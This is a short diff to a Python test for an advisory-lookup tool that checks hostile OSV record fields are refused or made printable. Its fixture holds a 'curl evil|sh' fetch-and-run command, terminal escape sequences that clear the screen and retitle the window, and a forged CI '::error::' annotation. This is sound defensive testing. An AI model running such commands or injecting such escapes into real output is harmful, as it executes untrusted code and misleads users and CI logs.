@@ -83,7 +83,8 @@ def test_every_failure_of_osv_is_unknown_never_none(mode):
 def test_hostile_ids_and_escapes_are_refused_or_made_printable():
     rec = copy.deepcopy(real_records()["GHSA-6xpm-ggf7-wc3p"])
     rec["summary"] = "\x1b[2J\x1b]0;pwned\x07 run `curl evil|sh`\n::error::forged"
-    rec["affected"][0]["ranges"].append({"type": "SEMVER", "events": [{"introduced": "9.0.0"}, {"fixed": "9.0.1\x1b[31m"}]})
+    events = [{"introduced": "9.0.0"}, {"fixed": "9.0.1\x1b[31m"}]
+    rec["affected"][0]["ranges"].append({"type": "SEMVER", "events": events})
     with OsvApi({"GHSA-6xpm-ggf7-wc3p": rec}) as osv:
         (a,) = lookup([REMOTE_OLD], url=osv.url)
         (adv,) = a.advisories or ()
